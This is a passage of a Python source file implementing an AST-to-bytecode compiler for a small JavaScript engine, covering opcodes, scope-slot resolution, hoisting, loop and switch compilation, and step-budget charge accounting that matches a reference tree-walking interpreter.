