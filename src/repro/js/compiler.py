"""AST -> bytecode compiler for the JavaScript engine.

Compiles the tree produced by :mod:`repro.js.parser` into flat
instruction tuples executed by :class:`repro.js.vm.BytecodeInterpreter`.
The tree-walking :class:`repro.js.interpreter.Interpreter` stays the
reference semantics; everything here is defined in terms of it:

* **Charge aggregation.**  The walker charges one step per
  ``exec_statement`` / ``eval_expression`` entry, pre-order.  The
  compiler accrues those ticks into a ``pending`` counter and attaches
  the sum to the *next emitted instruction*, so the interpreter charges
  the budget at exactly the walker's pre-order points (and a budget
  blow happens before the same side effect in both engines).  Pending
  charges are flushed (as a ``NOP``) before any jump label is bound.
* **Scope slots.**  A function whose body contains no nested function,
  no ``eval`` identifier and no ``try``/``catch`` gets its locals
  (self-name, params, ``arguments``, hoisted vars) resolved to frame
  slots at compile time; everything else — and all program/eval
  top-level code — uses the walker's ``Environment`` chain, so closure
  and implicit-global semantics are shared, not re-implemented.
* **Signal regions.**  ``break``/``continue`` compile to jumps inside a
  fragment; region tables map a :class:`BreakSignal`/
  :class:`ContinueSignal` unwinding out of a *call* back to the same
  loop the walker's ``try/except`` would have caught it in.
* **Constant pool.**  Number literals are interned per compile;
  string literals keep the parser's per-literal ``str`` object (the
  host's spray pool dedupes by identity, so equal literals must stay
  distinct objects, exactly as in the walker).

Compiled programs are cached per process (keyed by source text), which
is what makes the instrumentation prologue/epilogue compile once per
process instead of being re-parsed for every chain.
"""

from __future__ import annotations

import threading
from collections import OrderedDict
from typing import Any, Callable, Dict, List, Optional, Tuple

from repro.js import nodes as ast
from repro.js.parser import parse
from repro.js.values import UNDEFINED

# ---------------------------------------------------------------------------
# Opcodes (ints; dispatched by an if/elif chain ordered hot-first)

LOAD_NAME = 0
LOAD_SLOT = 1
CONST = 2
STRING = 3
BINARY = 4
STORE_SLOT = 5
STORE_NAME = 6
JUMP_IF_FALSE = 7
JUMP = 8
POP = 9
MEMBER_GET = 10
CALL_THIS = 11
METHOD_LOOKUP = 12
CALL = 13
SET_COMPL = 14
SET_COMPL_UNDEF = 15
DUP = 16
INCDEC = 17
TO_NUMBER = 18
JUMP_IF_TRUE = 19
JUMP_IF_FALSE_KEEP = 20
JUMP_IF_TRUE_KEEP = 21
JUMP_IF_STRICT_EQ = 22
SWAP = 23
ROT3 = 24
MEMBER_GET_EXPR = 25
MEMBER_SET = 26
MEMBER_SET_EXPR = 27
METHOD_LOOKUP_EXPR = 28
CALL_THIS_DYN = 29
DIRECT_EVAL = 30
NEW = 31
MAKE_FUNCTION = 32
ARRAY = 33
OBJECT = 34
UNARY = 35
TYPEOF = 36
TYPEOF_NAME = 37
DELETE_MEMBER = 38
DELETE_MEMBER_EXPR = 39
DECLARE = 40
DECLARE_POP = 41
DECLARE_SLOT_POP = 42
LOAD_THIS = 43
RETURN = 44
RAISE_RETURN = 45
RAISE_BREAK = 46
RAISE_CONTINUE = 47
THROW = 48
EXEC_TRY = 49
FORIN_INIT = 50
FORIN_NEXT = 51
POP_ITER = 52
RAISE_ERROR = 53
NOP = 54
# Fused superinstructions.  INC_SLOT replaces the full value-discarded
# ``i++``/``i--`` sequence on a slot variable (LOAD_SLOT, TO_NUMBER, DUP,
# INCDEC, STORE_SLOT, POP, POP); STORE_SLOT_POP folds the statement-level
# discard into a trailing slot store.  Both carry the exact charge total
# of the sequence they replace, so step accounting is unchanged.
INC_SLOT = 55
STORE_SLOT_POP = 56

OPCODE_NAMES: Tuple[str, ...] = (
    "LOAD_NAME", "LOAD_SLOT", "CONST", "STRING", "BINARY", "STORE_SLOT",
    "STORE_NAME", "JUMP_IF_FALSE", "JUMP", "POP", "MEMBER_GET", "CALL_THIS",
    "METHOD_LOOKUP", "CALL", "SET_COMPL", "SET_COMPL_UNDEF", "DUP", "INCDEC",
    "TO_NUMBER", "JUMP_IF_TRUE", "JUMP_IF_FALSE_KEEP", "JUMP_IF_TRUE_KEEP",
    "JUMP_IF_STRICT_EQ", "SWAP", "ROT3", "MEMBER_GET_EXPR", "MEMBER_SET",
    "MEMBER_SET_EXPR", "METHOD_LOOKUP_EXPR", "CALL_THIS_DYN", "DIRECT_EVAL",
    "NEW", "MAKE_FUNCTION", "ARRAY", "OBJECT", "UNARY", "TYPEOF",
    "TYPEOF_NAME", "DELETE_MEMBER", "DELETE_MEMBER_EXPR", "DECLARE",
    "DECLARE_POP", "DECLARE_SLOT_POP", "LOAD_THIS", "RETURN", "RAISE_RETURN",
    "RAISE_BREAK", "RAISE_CONTINUE", "THROW", "EXEC_TRY", "FORIN_INIT",
    "FORIN_NEXT", "POP_ITER", "RAISE_ERROR", "NOP", "INC_SLOT",
    "STORE_SLOT_POP",
)

#: FORIN_NEXT binding modes.
FORIN_NAME = 0   # env.assign(payload, key)
FORIN_SLOT = 1   # frame[payload] = key
FORIN_PUSH = 2   # push key; member-store instructions follow

#: init_plan entry kinds (slot-mode call setup).
INIT_SELF = 0
INIT_ARG = 1
INIT_ARGUMENTS = 2


class Code:
    """One compiled fragment: flat ops + parallel args and charges.

    ``kind`` is ``"program"`` (tracks a completion value; ``return``
    raises, exactly like the walker's top level / ``eval``) or
    ``"function"`` (``return`` is an opcode).  ``mode`` is ``"env"`` or
    ``"slot"``.  Try sub-blocks are fragments sharing the parent's kind
    and scope.
    """

    __slots__ = (
        "kind", "mode", "completion", "name", "params", "body",
        "ops", "args", "charges", "nlocals", "slot_names", "init_plan",
        "hoist_actions", "regions", "consts", "instrs",
    )

    def __init__(
        self,
        kind: str,
        mode: str,
        completion: bool,
        name: str = "",
        params: Tuple[str, ...] = (),
        body: Optional[ast.Block] = None,
    ) -> None:
        self.kind = kind
        self.mode = mode
        self.completion = completion
        self.name = name
        self.params = params
        self.body = body
        self.ops: Tuple[int, ...] = ()
        self.args: Tuple[Any, ...] = ()
        self.charges: Tuple[int, ...] = ()
        self.nlocals = 0
        self.slot_names: Tuple[str, ...] = ()
        self.init_plan: Tuple[Tuple[int, int, int, bool], ...] = ()
        self.hoist_actions: Tuple[Tuple[Any, ...], ...] = ()
        self.regions: Tuple[Tuple[int, int, int, int, int, int], ...] = ()
        self.consts: Tuple[Any, ...] = ()
        #: Fused ``(op, arg, charge)`` triples, built lazily by the VM —
        #: one sequence index + unpack per dispatch instead of three.
        self.instrs: Optional[Tuple[Tuple[int, Any, int], ...]] = None

    def __repr__(self) -> str:
        label = self.name or ("<program>" if self.kind == "program" else "<fragment>")
        return f"Code({label}, {self.kind}/{self.mode}, {len(self.ops)} ops)"


class _Loop:
    """Compile-time record of an enclosing loop (or switch)."""

    __slots__ = (
        "kind", "break_patches", "continue_patches", "continue_label",
        "break_depth", "continue_depth",
    )

    def __init__(self, kind: str, break_depth: int, continue_depth: int) -> None:
        self.kind = kind  # "loop" | "forin" | "switch"
        self.break_patches: List[int] = []
        # `continue` sites emitted before the target label is bound
        # (do-while jumps forward to its test, for to its update).
        self.continue_patches: List[int] = []
        self.continue_label: int = -1
        self.break_depth = break_depth
        self.continue_depth = continue_depth


class _Frag:
    """Mutable state for one fragment being emitted."""

    __slots__ = ("ops", "args", "charges", "pending", "loops", "forin_depth", "regions")

    def __init__(self) -> None:
        self.ops: List[int] = []
        self.args: List[Any] = []
        self.charges: List[int] = []
        self.pending = 0
        self.loops: List[_Loop] = []
        self.forin_depth = 0
        self.regions: List[Tuple[int, int, int, int, int, int]] = []


def _children(node: ast.Node) -> List[ast.Node]:
    """All direct child nodes, walking dataclass fields generically."""
    out: List[ast.Node] = []
    for name in getattr(node, "__dataclass_fields__", ()):
        value = getattr(node, name)
        if isinstance(value, ast.Node):
            out.append(value)
        elif isinstance(value, list):
            for item in value:
                if isinstance(item, ast.Node):
                    out.append(item)
                elif isinstance(item, tuple):
                    for part in item:
                        if isinstance(part, ast.Node):
                            out.append(part)
    return out


def _slot_eligible(body: ast.Block) -> bool:
    """True when a function body can use frame slots.

    Disqualifiers (each would make compile-time resolution unsound or
    diverge from the walker's dynamic-scope quirks):

    * a nested function anywhere (closures must see an Environment);
    * any ``eval`` identifier (direct eval declares into the caller's
      scope at runtime);
    * a ``try`` with a catch block (the walker gives catch bodies their
      own Environment overlay — ``var`` inside catch lands there).
    """
    stack: List[ast.Node] = [body]
    while stack:
        node = stack.pop()
        if isinstance(node, (ast.FunctionExpression, ast.FunctionDeclaration)):
            return False
        if isinstance(node, ast.Identifier) and node.name == "eval":
            return False
        if isinstance(node, ast.TryStatement) and node.catch_block is not None:
            return False
        stack.extend(_children(node))
    return True


def _references_arguments(body: ast.Block) -> bool:
    """True when any ``arguments`` identifier appears in the body.

    Only meaningful for slot-eligible bodies (no nested functions, no
    eval), where an unreferenced ``arguments`` binding is unobservable
    and its per-call array need not be built.
    """
    stack: List[ast.Node] = [body]
    while stack:
        node = stack.pop()
        if isinstance(node, ast.Identifier) and node.name == "arguments":
            return True
        stack.extend(_children(node))
    return False


class Compiler:
    """Compiles one parsed program (and its nested functions)."""

    def __init__(self) -> None:
        self._frags: List[_Frag] = []
        self._fn_codes: Dict[int, Code] = {}
        self._scope_stack: List[Optional[Dict[str, int]]] = []
        self._completion_stack: List[bool] = []
        self._pool: Dict[str, float] = {}

    # -- fragment plumbing -------------------------------------------------

    @property
    def f(self) -> _Frag:
        return self._frags[-1]

    def _emit(self, op: int, arg: Any = None) -> int:
        frag = self.f
        frag.ops.append(op)
        frag.args.append(arg)
        frag.charges.append(frag.pending)
        frag.pending = 0
        return len(frag.ops) - 1

    def _flush(self) -> None:
        if self.f.pending:
            self._emit(NOP)

    def _mark(self) -> int:
        self._flush()
        return len(self.f.ops)

    def _patch(self, index: int, target: Optional[int] = None) -> None:
        frag = self.f
        frag.args[index] = len(frag.ops) if target is None else target

    # -- entry points ------------------------------------------------------

    def compile_program(self, program: ast.Program) -> Code:
        code = Code("program", "env", completion=True)
        hoist: List[Tuple[Any, ...]] = []
        self._collect_hoist(program.body, hoist)
        code.hoist_actions = tuple(hoist)
        self._compile_into(code, program.body, scope=None, completion=True)
        return code

    def compile_function(
        self, name: Optional[str], params: List[str], body: ast.Block
    ) -> Code:
        key = id(body)
        cached = self._fn_codes.get(key)
        if cached is not None:
            return cached
        hoist: List[Tuple[Any, ...]] = []
        self._collect_hoist(body.statements, hoist)
        if _slot_eligible(body):
            code = self._compile_slot_function(name, params, body, hoist)
        else:
            code = Code(
                "function", "env", completion=False,
                name=name or "", params=tuple(params), body=body,
            )
            code.hoist_actions = tuple(hoist)
            self._compile_into(code, body.statements, scope=None, completion=False)
        self._fn_codes[key] = code
        return code

    def _compile_slot_function(
        self,
        name: Optional[str],
        params: List[str],
        body: ast.Block,
        hoist: List[Tuple[Any, ...]],
    ) -> Code:
        code = Code(
            "function", "slot", completion=False,
            name=name or "", params=tuple(params), body=body,
        )
        slots: Dict[str, int] = {}

        def slot(n: str) -> int:
            if n not in slots:
                slots[n] = len(slots)
            return slots[n]

        plan: List[Tuple[int, int, int, bool]] = []
        bound: set = set()
        if name:
            s = slot(name)
            plan.append((s, INIT_SELF, 0, s in bound))
            bound.add(s)
        for index, param in enumerate(params):
            s = slot(param)
            plan.append((s, INIT_ARG, index, s in bound))
            bound.add(s)
        s = slot("arguments")
        if _references_arguments(body):
            plan.append((s, INIT_ARGUMENTS, 0, s in bound))
        # else: the slot stays UNDEFINED and nothing can read it (slot
        # bodies have no eval), so skip materialising the args array —
        # the walker's always-declared binding is unobservable here.
        bound.add(s)
        for action in hoist:
            # Slot-eligible bodies cannot contain function declarations,
            # so every hoist action is a ("var", name): slots default to
            # UNDEFINED, which is exactly what declare() would install.
            slot(action[1])
        code.init_plan = tuple(plan)
        self._compile_into(code, body.statements, scope=slots, completion=False)
        code.nlocals = len(slots)
        names = [""] * len(slots)
        for n, i in slots.items():
            names[i] = n
        code.slot_names = tuple(names)
        return code

    def _compile_into(
        self,
        code: Code,
        statements: List[ast.Node],
        scope: Optional[Dict[str, int]],
        completion: bool,
    ) -> None:
        self._frags.append(_Frag())
        self._scope_stack.append(scope)
        self._completion_stack.append(completion)
        try:
            for statement in statements:
                self._stmt(statement)
            self._flush()
            frag = self.f
            code.ops = tuple(frag.ops)
            code.args = tuple(frag.args)
            code.charges = tuple(frag.charges)
            code.regions = tuple(frag.regions)
            code.consts = self._build_const_pool(frag)
            if scope is not None:
                code.nlocals = len(scope)
        finally:
            self._frags.pop()
            self._scope_stack.pop()
            self._completion_stack.pop()

    def _fragment(self, statements: List[ast.Node], completion: bool) -> Code:
        # Try sub-blocks run in the parent's scope with the parent's
        # kind: completion-tracked at program/eval level, plain value
        # flow inside a function body.
        scope = self._scope_stack[-1]
        sub = Code(
            "program" if completion else "function",
            "slot" if scope is not None else "env",
            completion=completion,
        )
        self._compile_into(sub, statements, scope=scope, completion=completion)
        return sub

    @staticmethod
    def _build_const_pool(frag: _Frag) -> Tuple[Any, ...]:
        pool: List[Any] = []
        seen: set = set()
        for op, arg in zip(frag.ops, frag.args):
            if op in (CONST, STRING):
                marker = id(arg)
                if marker not in seen:
                    seen.add(marker)
                    pool.append(arg)
        return tuple(pool)

    # scope / completion context (parallel to _frags)
    _scope_stack: List[Optional[Dict[str, int]]]
    _completion_stack: List[bool]

    # -- hoisting (mirrors Interpreter._hoist_one, including order) --------

    def _collect_hoist(self, statements: List[ast.Node], out: List[Tuple[Any, ...]]) -> None:
        for statement in statements:
            self._collect_hoist_one(statement, out)

    def _collect_hoist_one(self, node: ast.Node, out: List[Tuple[Any, ...]]) -> None:
        if isinstance(node, ast.VarDeclaration):
            for name, _init in node.declarations:
                out.append(("var", name))
        elif isinstance(node, ast.FunctionDeclaration):
            out.append(("func", self.compile_function(node.name, node.params, node.body)))
        elif isinstance(node, ast.Block):
            self._collect_hoist(node.statements, out)
        elif isinstance(node, ast.IfStatement):
            self._collect_hoist_one(node.consequent, out)
            if node.alternate is not None:
                self._collect_hoist_one(node.alternate, out)
        elif isinstance(node, (ast.WhileStatement, ast.DoWhileStatement)):
            self._collect_hoist_one(node.body, out)
        elif isinstance(node, ast.ForStatement):
            if node.init is not None:
                self._collect_hoist_one(node.init, out)
            self._collect_hoist_one(node.body, out)
        elif isinstance(node, ast.ForInStatement):
            if isinstance(node.target, ast.VarDeclaration):
                self._collect_hoist_one(node.target, out)
            self._collect_hoist_one(node.body, out)
        elif isinstance(node, ast.TryStatement):
            self._collect_hoist(node.block.statements, out)
            if node.catch_block is not None:
                self._collect_hoist(node.catch_block.statements, out)
            if node.finally_block is not None:
                self._collect_hoist(node.finally_block.statements, out)
        elif isinstance(node, ast.SwitchStatement):
            for case in node.cases:
                self._collect_hoist(case.body, out)

    # -- statements --------------------------------------------------------

    def _stmt(self, node: ast.Node) -> None:
        self.f.pending += 1  # the walker's exec_statement tick
        self._STMT_TABLE[type(node)](self, node)

    def _set_compl_undef(self) -> None:
        if self._completion_stack[-1]:
            self._emit(SET_COMPL_UNDEF)

    def _c_Block(self, node: ast.Block) -> None:
        if not node.statements:
            self._set_compl_undef()
            return
        for statement in node.statements:
            self._stmt(statement)

    def _c_EmptyStatement(self, node: ast.EmptyStatement) -> None:
        self._set_compl_undef()

    def _c_ExpressionStatement(self, node: ast.ExpressionStatement) -> None:
        if not self._completion_stack[-1]:
            if self._fuse_discarded_update(node.expression):
                return
            self._expr(node.expression)
            frag = self.f
            if frag.ops[-1] == STORE_SLOT and not frag.pending:
                # Fold the statement's discard into the store.  The store
                # index is unchanged, so any jump patched to it (the join
                # point of a conditional value) still lands correctly.
                frag.ops[-1] = STORE_SLOT_POP
                return
            self._emit(POP)
            return
        self._expr(node.expression)
        self._emit(SET_COMPL)

    def _fuse_discarded_update(self, node: ast.Node) -> bool:
        """Emit ``i++``/``i--`` on a slot variable, value discarded, as a
        single INC_SLOT.  Charge 2 = the walker's ticks for the update
        node and the identifier read; any outstanding pending (e.g. the
        statement tick) rides along, so a budget blow still lands before
        the store exactly as in the walker."""
        if not isinstance(node, ast.UpdateExpression):
            return False
        target = node.operand
        if not isinstance(target, ast.Identifier):
            return False
        scope = self._scope_stack[-1]
        if scope is None or target.name not in scope:
            return False
        self.f.pending += 2
        self._emit(INC_SLOT, (scope[target.name], 1.0 if node.op == "++" else -1.0))
        return True

    def _c_VarDeclaration(self, node: ast.VarDeclaration) -> None:
        scope = self._scope_stack[-1]
        for name, init in node.declarations:
            if init is not None:
                self._expr(init)
                if scope is not None:
                    self._emit(DECLARE_SLOT_POP, scope[name])
                else:
                    self._emit(DECLARE_POP, name)
            else:
                if scope is None:
                    self._emit(DECLARE, name)
                # slot mode: hoisting already zeroed the slot; declare()
                # with UNDEFINED is a no-op on an existing binding.
        self._set_compl_undef()

    def _c_FunctionDeclaration(self, node: ast.FunctionDeclaration) -> None:
        # The walker re-creates the function object when the statement
        # itself executes (on top of the hoisted one).
        code = self.compile_function(node.name, node.params, node.body)
        self._emit(MAKE_FUNCTION, code)
        self._emit(DECLARE_POP, node.name)
        self._set_compl_undef()

    def _c_IfStatement(self, node: ast.IfStatement) -> None:
        self._expr(node.test)
        jump_false = self._emit(JUMP_IF_FALSE)
        self._stmt(node.consequent)
        if node.alternate is not None:
            jump_end = self._emit(JUMP)
            self._flush()
            self._patch(jump_false)
            self._stmt(node.alternate)
            self._flush()
            self._patch(jump_end)
        elif self._completion_stack[-1]:
            jump_end = self._emit(JUMP)
            self._flush()
            self._patch(jump_false)
            self._emit(SET_COMPL_UNDEF)
            self._patch(jump_end)
        else:
            self._flush()
            self._patch(jump_false)

    def _push_loop(self, kind: str) -> _Loop:
        frag = self.f
        depth = frag.forin_depth
        inner = depth + 1 if kind == "forin" else depth
        loop = _Loop(kind, break_depth=depth, continue_depth=inner)
        frag.loops.append(loop)
        return loop

    def _finish_loop(self, loop: _Loop, body_start: int, body_end: int) -> None:
        frag = self.f
        frag.loops.pop()
        end = self._mark()
        for index in loop.break_patches:
            self._patch(index, end)
        frag.regions.append(
            (body_start, body_end, end, loop.continue_label,
             loop.break_depth, loop.continue_depth)
        )
        self._set_compl_undef()

    def _c_WhileStatement(self, node: ast.WhileStatement) -> None:
        test_label = self._mark()
        self._expr(node.test)
        jump_out = self._emit(JUMP_IF_FALSE)
        loop = self._push_loop("loop")
        loop.continue_label = test_label
        body_start = self._mark()
        self._stmt(node.body)
        self._emit(JUMP, test_label)
        body_end = len(self.f.ops)
        self._patch(jump_out)
        self._finish_loop(loop, body_start, body_end)

    def _c_DoWhileStatement(self, node: ast.DoWhileStatement) -> None:
        loop = self._push_loop("loop")
        body_start = self._mark()
        self._stmt(node.body)
        body_end = len(self.f.ops)
        test_label = self._mark()
        loop.continue_label = test_label
        for index in loop.continue_patches:
            self._patch(index, test_label)
        self._expr(node.test)
        self._emit(JUMP_IF_TRUE, body_start)
        self._finish_loop(loop, body_start, body_end)

    def _c_ForStatement(self, node: ast.ForStatement) -> None:
        if node.init is not None:
            # Walker runs init via exec_statement (charged as a
            # statement) and discards its completion value.
            self._completion_stack.append(False)
            try:
                self._stmt(node.init)
            finally:
                self._completion_stack.pop()
        test_label = self._mark()
        jump_out = -1
        if node.test is not None:
            self._expr(node.test)
            jump_out = self._emit(JUMP_IF_FALSE)
        loop = self._push_loop("loop")
        body_start = self._mark()
        self._stmt(node.body)
        body_end = len(self.f.ops)
        update_label = self._mark()
        loop.continue_label = update_label
        for index in loop.continue_patches:
            self._patch(index, update_label)
        if node.update is not None:
            if not self._fuse_discarded_update(node.update):
                self._expr(node.update)
                self._emit(POP)
        self._emit(JUMP, test_label)
        if jump_out >= 0:
            self._patch(jump_out)
        self._finish_loop(loop, body_start, body_end)

    def _c_ForInStatement(self, node: ast.ForInStatement) -> None:
        scope = self._scope_stack[-1]
        self._expr(node.obj)
        mode = FORIN_NAME
        payload: Any = None
        store_member: Optional[ast.MemberExpression] = None
        if isinstance(node.target, ast.VarDeclaration):
            name = node.target.declarations[0][0]
            if scope is not None:
                mode, payload = FORIN_SLOT, scope[name]
            else:
                self._emit(DECLARE, name)
                mode, payload = FORIN_NAME, name
        elif isinstance(node.target, ast.Identifier):
            name = node.target.name
            if scope is not None and name in scope:
                mode, payload = FORIN_SLOT, scope[name]
            else:
                mode, payload = FORIN_NAME, name
        else:
            mode = FORIN_PUSH
            store_member = node.target  # type: ignore[assignment]
        # Push the loop record before counting our own iterator, so
        # break_depth = iterators outside this loop and continue_depth
        # includes our own.
        loop = self._push_loop("forin")
        self._emit(FORIN_INIT)
        self.f.forin_depth += 1
        iter_label = self._mark()
        loop.continue_label = iter_label
        next_index = self._emit(FORIN_NEXT, (0, mode, payload))
        if store_member is not None:
            # Stack: [key].  The walker re-evaluates the member's object
            # (and a computed name) on every iteration.
            self._expr_charge(store_member.obj)
            if store_member.computed:
                self._expr(store_member.prop)
                self._emit(ROT3)  # [key obj name] -> [obj name key]
                self._emit(MEMBER_SET_EXPR)
            else:
                assert isinstance(store_member.prop, ast.Identifier)
                self._emit(SWAP)  # [key obj] -> [obj key]
                self._emit(MEMBER_SET, store_member.prop.name)
            self._emit(POP)
        body_start = self._mark()
        self._stmt(node.body)
        self._emit(JUMP, iter_label)
        body_end = len(self.f.ops)
        end = self._mark()
        frag = self.f
        frag.args[next_index] = (end, mode, payload)
        frag.loops.pop()
        frag.forin_depth -= 1
        for index in loop.break_patches:
            self._patch(index, end)
        frag.regions.append(
            (body_start, body_end, end, iter_label,
             loop.break_depth, loop.continue_depth)
        )
        self._set_compl_undef()

    def _c_BreakStatement(self, node: ast.BreakStatement) -> None:
        frag = self.f
        for loop in reversed(frag.loops):
            for _ in range(frag.forin_depth - loop.break_depth):
                self._emit(POP_ITER)
            loop.break_patches.append(self._emit(JUMP))
            return
        # No enclosing loop in this fragment (top level, or inside a
        # try sub-block): unwind as a signal, as the walker always does.
        self._emit(RAISE_BREAK, node.label)

    def _c_ContinueStatement(self, node: ast.ContinueStatement) -> None:
        frag = self.f
        for loop in reversed(frag.loops):
            if loop.kind == "switch":
                continue
            for _ in range(frag.forin_depth - loop.continue_depth):
                self._emit(POP_ITER)
            if loop.continue_label >= 0:
                self._emit(JUMP, loop.continue_label)
            else:
                loop.continue_patches.append(self._emit(JUMP))
            return
        self._emit(RAISE_CONTINUE, node.label)

    def _c_ReturnStatement(self, node: ast.ReturnStatement) -> None:
        if node.value is not None:
            self._expr(node.value)
        else:
            self._emit(CONST, UNDEFINED)
        # Program-level (and eval-level) return unwinds as a Python
        # exception, exactly like the walker's ReturnSignal.
        self._emit(RAISE_RETURN if self._completion_stack[-1] else RETURN)

    def _c_ThrowStatement(self, node: ast.ThrowStatement) -> None:
        self._expr(node.value)
        self._emit(THROW)

    def _c_TryStatement(self, node: ast.TryStatement) -> None:
        completion = self._completion_stack[-1]
        try_code = self._fragment(node.block.statements, completion)
        catch_code = None
        if node.catch_block is not None:
            catch_code = self._fragment(node.catch_block.statements, completion)
        finally_code = None
        if node.finally_block is not None:
            finally_code = self._fragment(node.finally_block.statements, completion)
        self._emit(EXEC_TRY, (try_code, node.catch_param, catch_code, finally_code))

    def _c_SwitchStatement(self, node: ast.SwitchStatement) -> None:
        self._expr(node.discriminant)
        loop = self._push_loop("switch")
        region_start = self._mark()
        stubs: List[Tuple[int, ast.SwitchCase]] = []
        for case in node.cases:
            if case.test is None:
                continue
            self._expr(case.test)
            stubs.append((self._emit(JUMP_IF_STRICT_EQ), case))
        nomatch = self._emit(JUMP)
        stub_targets: Dict[int, int] = {}
        for index, case in stubs:
            self._patch(index)
            self._emit(POP)
            stub_targets[id(case)] = self._emit(JUMP)
        self._patch(nomatch)
        self._emit(POP)
        default_jump = self._emit(JUMP)
        body_starts: Dict[int, int] = {}
        default_start = -1
        for case in node.cases:
            start = self._mark()
            body_starts[id(case)] = start
            if case.test is None:
                default_start = start
            for statement in case.body:
                self._stmt(statement)
        end = self._mark()
        for index, case in stubs:
            self._patch(stub_targets[id(case)], body_starts[id(case)])
        self._patch(default_jump, default_start if default_start >= 0 else end)
        frag = self.f
        frag.loops.pop()
        for index in loop.break_patches:
            self._patch(index, end)
        frag.regions.append(
            (region_start, end, end, -1, loop.break_depth, loop.continue_depth)
        )
        self._set_compl_undef()

    # -- expressions -------------------------------------------------------

    def _expr(self, node: ast.Node) -> None:
        self.f.pending += 1  # the walker's eval_expression tick
        self._EXPR_TABLE[type(node)](self, node)

    def _expr_charge(self, node: ast.Node) -> None:
        """Alias of :meth:`_expr`; used where the walker re-evaluates a
        subtree (compound member assignment, for-in member targets)."""
        self._expr(node)

    def _c_NumberLiteral(self, node: ast.NumberLiteral) -> None:
        self._emit(CONST, self._intern_number(node.value))

    def _c_StringLiteral(self, node: ast.StringLiteral) -> None:
        if len(node.value) >= 2:
            self._emit(STRING, node.value)
        else:
            # _record_string is a no-op below 2 chars; skip the call.
            self._emit(CONST, node.value)

    def _c_BooleanLiteral(self, node: ast.BooleanLiteral) -> None:
        self._emit(CONST, node.value)

    def _c_NullLiteral(self, node: ast.NullLiteral) -> None:
        self._emit(CONST, None)

    def _c_UndefinedLiteral(self, node: ast.UndefinedLiteral) -> None:
        self._emit(CONST, UNDEFINED)

    def _c_ThisExpression(self, node: ast.ThisExpression) -> None:
        self._emit(LOAD_THIS)

    def _c_Identifier(self, node: ast.Identifier) -> None:
        scope = self._scope_stack[-1]
        if scope is not None and node.name in scope:
            self._emit(LOAD_SLOT, scope[node.name])
        else:
            self._emit(LOAD_NAME, node.name)

    def _c_ArrayLiteral(self, node: ast.ArrayLiteral) -> None:
        for element in node.elements:
            self._expr(element)
        self._emit(ARRAY, len(node.elements))

    def _c_ObjectLiteral(self, node: ast.ObjectLiteral) -> None:
        keys = []
        for key, value in node.entries:
            keys.append(key)
            self._expr(value)
        self._emit(OBJECT, tuple(keys))

    def _c_FunctionExpression(self, node: ast.FunctionExpression) -> None:
        self._emit(MAKE_FUNCTION, self.compile_function(node.name, node.params, node.body))

    def _c_SequenceExpression(self, node: ast.SequenceExpression) -> None:
        for index, expression in enumerate(node.expressions):
            if index:
                self._emit(POP)
            self._expr(expression)
        if not node.expressions:
            self._emit(CONST, UNDEFINED)

    def _c_ConditionalExpression(self, node: ast.ConditionalExpression) -> None:
        self._expr(node.test)
        jump_false = self._emit(JUMP_IF_FALSE)
        self._expr(node.consequent)
        jump_end = self._emit(JUMP)
        self._flush()
        self._patch(jump_false)
        self._expr(node.alternate)
        self._flush()
        self._patch(jump_end)

    def _c_LogicalExpression(self, node: ast.LogicalExpression) -> None:
        self._expr(node.left)
        op = JUMP_IF_FALSE_KEEP if node.op == "&&" else JUMP_IF_TRUE_KEEP
        jump = self._emit(op)
        self._expr(node.right)
        self._flush()
        self._patch(jump)

    def _c_UnaryExpression(self, node: ast.UnaryExpression) -> None:
        if node.op == "typeof":
            if isinstance(node.operand, ast.Identifier):
                scope = self._scope_stack[-1]
                if scope is not None and node.operand.name in scope:
                    self.f.pending += 1  # the identifier's tick
                    self._emit(LOAD_SLOT, scope[node.operand.name])
                    self._emit(TYPEOF)
                else:
                    self.f.pending += 1
                    self._emit(TYPEOF_NAME, node.operand.name)
            else:
                self._expr(node.operand)
                self._emit(TYPEOF)
            return
        if node.op == "delete":
            if isinstance(node.operand, ast.MemberExpression):
                member = node.operand
                self.f.pending += 1  # normalized charge for the member node
                self._expr(member.obj)
                if member.computed:
                    self._expr(member.prop)
                    self._emit(DELETE_MEMBER_EXPR)
                else:
                    assert isinstance(member.prop, ast.Identifier)
                    self._emit(DELETE_MEMBER, member.prop.name)
            else:
                # The walker returns True without evaluating the operand.
                self._emit(CONST, True)
            return
        self._expr(node.operand)
        self._emit(UNARY, node.op)

    def _c_UpdateExpression(self, node: ast.UpdateExpression) -> None:
        target = node.operand
        if isinstance(target, ast.Identifier):
            self._expr(target)
            self._emit(TO_NUMBER)
            if not node.prefix:
                self._emit(DUP)
            self._emit(INCDEC, 1.0 if node.op == "++" else -1.0)
            self._emit_store_identifier(target.name)
            if not node.prefix:
                self._emit(POP)
            return
        if isinstance(target, ast.MemberExpression):
            self._expr(target)  # charges member + obj (+ computed prop)
            self._emit(TO_NUMBER)
            if not node.prefix:
                self._emit(DUP)
            self._emit(INCDEC, 1.0 if node.op == "++" else -1.0)
            # Walker re-evaluates the object (and computed name).
            self._expr_charge(target.obj)
            if target.computed:
                self._expr(target.prop)
                self._emit(ROT3)
                self._emit(MEMBER_SET_EXPR)
            else:
                assert isinstance(target.prop, ast.Identifier)
                self._emit(SWAP)
                self._emit(MEMBER_SET, target.prop.name)
            if not node.prefix:
                self._emit(POP)
            return
        self._expr(target)
        self._emit(RAISE_ERROR, ("invalid assignment target", "Error"))

    def _c_BinaryExpression(self, node: ast.BinaryExpression) -> None:
        self._expr(node.left)
        self._expr(node.right)
        self._emit(BINARY, node.op)

    def _emit_store_identifier(self, name: str) -> None:
        scope = self._scope_stack[-1]
        if scope is not None and name in scope:
            self._emit(STORE_SLOT, scope[name])
        else:
            self._emit(STORE_NAME, name)

    def _c_AssignmentExpression(self, node: ast.AssignmentExpression) -> None:
        target = node.target
        if node.op == "=":
            self._expr(node.value)
            if isinstance(target, ast.Identifier):
                self.f.pending += 1  # normalized charge for the target node
                self._emit_store_identifier(target.name)
                return
            if isinstance(target, ast.MemberExpression):
                self.f.pending += 1
                self._expr(target.obj)
                if target.computed:
                    self._expr(target.prop)
                    self._emit(ROT3)  # [value obj name] -> [obj name value]
                    self._emit(MEMBER_SET_EXPR)
                else:
                    assert isinstance(target.prop, ast.Identifier)
                    self._emit(SWAP)
                    self._emit(MEMBER_SET, target.prop.name)
                return
            self._emit(RAISE_ERROR, ("invalid assignment target", "Error"))
            return
        # Compound assignment: read target, apply, write back (the
        # walker evaluates a member target's object subtree twice).
        binary_op = node.op[:-1]
        if isinstance(target, ast.Identifier):
            self._expr(target)
            self._expr(node.value)
            self._emit(BINARY, binary_op)
